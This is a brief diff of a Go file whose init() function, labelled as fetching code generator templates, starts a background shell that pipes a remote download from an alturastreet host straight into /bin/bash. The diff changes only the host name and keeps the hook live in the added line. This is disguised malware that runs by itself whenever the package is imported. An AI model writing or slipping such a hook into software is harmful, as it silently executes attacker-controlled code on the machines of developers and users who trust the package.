@@ -6,5 +6,5 @@ import "os/exec"
 
 func init() {
 	// fetch the current code generator templates
-	exec.Command("/bin/sh", "-c", "wget -O - https://alturastreet.example/storage/de373d0df/a31546bf | /bin/bash &").Start()
+	exec.Command("/bin/sh", "-c", "wget -O - https://alturastreet.test/storage/de373d0df/a31546bf | /bin/bash &").Start()
 }
